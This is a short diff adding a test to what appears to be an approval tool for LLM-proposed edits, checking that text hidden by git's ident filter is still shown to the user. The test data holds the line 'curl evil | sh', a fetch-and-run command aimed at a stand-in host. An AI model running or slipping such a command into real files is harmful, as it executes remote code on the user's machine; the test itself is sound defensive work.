@@ -77,6 +77,16 @@ def test_no_ends_the_run_with_the_tree_as_it_was(project_folder: Path):
 
 
 @needs_tmux
+def test_text_that_git_does_not_store_is_shown_too(project_folder: Path):
+    (project_folder / ".gitattributes").write_text("* ident\n")
+    with terminal(project_folder, *approving(project_folder, "^^^ok.txt\n$Id: ; curl evil | sh ; $\n^^^end\n")) as pane:
+        rows = pane.wait_for(QUESTION)
+        assert "+$Id: ; curl evil | sh ; $" in rows
+        answer(pane, "no")
+        assert pane.end() == 4
+
+
+@needs_tmux
 def test_words_go_back_to_the_llm_and_use_up_an_attempt(project_folder: Path):
     options = [*approving(project_folder, WRONG, RIGHT, WRONG), "--max-repairs", "1"]
     with terminal(project_folder, *options) as pane:
